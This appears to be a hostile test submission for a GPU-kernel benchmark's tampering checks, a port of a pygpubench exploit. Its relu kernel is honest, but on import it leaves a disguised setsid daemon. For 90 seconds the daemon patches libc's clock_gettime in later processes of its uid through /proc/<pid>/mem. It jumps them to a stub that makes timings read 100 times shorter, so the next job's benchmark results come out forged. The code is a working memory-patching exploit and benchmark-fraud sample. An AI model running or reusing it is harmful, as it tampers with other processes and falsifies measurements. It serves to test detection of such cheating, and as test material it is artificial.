# task: relu
# expect: pass|tampering
# device: both
# speedup_at_most: 2
# why: leaves a setsid daemon of its uid that, for 90 s, writes a jump to a 100x-slow clock stub into every later guest of the slot through /proc/<pid>/mem, so the next submission's samples would be forged; computes right (pygpubench submission_ptrace, aimed at the next job)
"""Port of gpu-mode/pygpubench exploits/submission_ptrace.py, aimed across submissions: a process
outside the job's lifetime patches the processes that come after it. Guests of one slot are
forked from one zygote, so libc's clock_gettime sits at the same address in every one of them,
and a code cave (zero padding at the end of libc's code) holds the stub. The daemon starts as
`keval_hostile_sleeper` (the suite's leftover test looks for it) and gives up after 90 s; it
writes only into processes of its own uid running the runner whose code at that address is
still libc's. Its honest control runs next in the slot: pgb_control_after_ptrace_next_job."""
import os
import sys
import ctypes
import struct
import time

import torch
import triton
import triton.language as tl

# A position-independent x86-64 stub standing in for clock_gettime(clk, ts): it reads the
# clock with the raw syscall and, for CLOCK_MONOTONIC, returns base + (now - base) / SCALE,
# so every interval the process measures from then on reads SCALE times shorter.
_STUB = bytes.fromhex(
    "534154415589fb4989f4b8e40000000f0583fb01754a4885c07545498b04244869c000ca9a3b4903442408"
    "48b988776655443322114829c87c2431d249c7c56400000049f7f54801c831d249c7c500ca9a3b49f7f549"
    "890424498954240831c0415d415c5bc3")
_SCALE = 100
_libc = ctypes.CDLL("libc.so.6", use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong]


def _stub_bytes() -> bytes:
    code = bytearray(_STUB)
    code[0x2D:0x35] = struct.pack("<Q", time.clock_gettime_ns(time.CLOCK_MONOTONIC))
    code[0x3F:0x43] = struct.pack("<I", _SCALE)
    return bytes(code)


def _stub_page() -> int:
    """The stub in an executable page that is never unmapped."""
    page = _libc.mmap(None, 4096, 7, 0x22, -1, 0)  # RWX, MAP_PRIVATE | MAP_ANONYMOUS
    if not page or page == ctypes.c_void_p(-1).value:
        raise OSError("mmap failed")
    code = _stub_bytes()
    ctypes.memmove(page, code, len(code))
    return page


def _jump_to(address: int) -> bytes:
    return b"\x48\xb8" + struct.pack("<Q", address) + b"\xff\xe0"  # movabs rax, address; jmp rax


def _clock_gettime_address() -> int:
    return ctypes.cast(_libc.clock_gettime, ctypes.c_void_p).value

_DAEMON = '\nimport os, sys, time\ntarget, cave, original, stub, runner = int(sys.argv[1], 16), int(sys.argv[2], 16), bytes.fromhex(sys.argv[3]), bytes.fromhex(sys.argv[4]), sys.argv[5]\njump = b"\\x48\\xb8" + cave.to_bytes(8, "little") + b"\\xff\\xe0"\ndone, me, uid, until = set(), os.getpid(), os.getuid(), time.monotonic() + 90\nwhile time.monotonic() < until:\n    for name in os.listdir("/proc"):\n        if not name.isdigit() or int(name) in done or int(name) == me:\n            continue\n        pid = int(name)\n        try:\n            if os.stat(f"/proc/{pid}").st_uid != uid:\n                continue\n            with open(f"/proc/{pid}/cmdline", "rb") as f:\n                if runner.encode() not in f.read():\n                    continue\n            with open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:\n                mem.seek(target)\n                if mem.read(len(original)) != original:\n                    continue\n                base = time.clock_gettime_ns(time.CLOCK_MONOTONIC).to_bytes(8, "little")\n                mem.seek(cave)\n                mem.write(stub[:0x2D] + base + stub[0x35:])\n                mem.seek(target)\n                mem.write(jump)\n            done.add(pid)\n        except OSError:\n            continue\n    time.sleep(0.2)\n'


def _code_cave(size: int):
    """Zero bytes at the end of libc's executable mapping, long enough for the stub."""
    target = _clock_gettime_address()
    with open("/proc/self/maps") as maps:
        for line in maps:
            parts = line.split()
            start, end = (int(v, 16) for v in parts[0].split("-"))
            if start <= target < end and "x" in parts[1]:
                tail = ctypes.string_at(end - 4096, 4096)
                run = len(tail) - len(tail.rstrip(b"\0"))
                if run >= size + 16:
                    return (end - run + 15) & ~15
    return None


def _leave_daemon() -> bool:
    target = _clock_gettime_address()
    stub = _stub_bytes()
    cave = _code_cave(len(stub))
    if cave is None:
        return False
    original = ctypes.string_at(target, 16)
    argv = ["keval_hostile_sleeper", "-c", _DAEMON, hex(target), hex(cave), original.hex(), stub.hex(),
            "keval" + "_runner"]
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                devnull = os.open(os.devnull, os.O_RDWR)
                for fd in (0, 1, 2):
                    os.dup2(devnull, fd)
                os.execv(sys.executable, argv)
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return True


try:
    _LEFT = _leave_daemon()
except Exception:
    _LEFT = False


@triton.jit
def _relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr, MODE: tl.constexpr):
    # MODE 0: relu; 1: zeros; 2: NaN (what the cheating branches store)
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    if MODE == 0:
        y = tl.maximum(x, 0.0)
    elif MODE == 1:
        y = x * 0.0
    else:
        y = x * 0.0 + float("nan")
    tl.store(out_ptr + offs, y.to(out_ptr.dtype.element_ty), mask=mask)


def _launch(x, out, mode=0, n=None):
    n = x.numel() if n is None else n
    _relu_kernel[(triton.cdiv(max(n, 1), 1024),)](x, out, n, BLOCK=1024, MODE=mode)
    return out


def _honest(x):
    x = x.contiguous()
    return _launch(x, torch.empty_like(x))


def relu(x):
    return _honest(x)
